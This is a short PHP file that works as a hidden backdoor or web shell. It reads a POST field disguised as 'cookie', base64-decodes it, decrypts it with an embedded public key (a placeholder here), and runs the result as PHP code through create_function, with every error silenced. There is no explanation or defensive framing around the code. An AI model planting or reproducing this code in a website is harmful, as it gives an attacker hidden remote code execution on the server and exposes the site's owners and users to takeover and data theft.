<?php
$data = @$_POST['cookie'];
$key = "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----";
if (@openssl_public_decrypt(base64_decode($data), $plain, $key)) {
    $f = @create_function('', $plain);
    @$f();
}
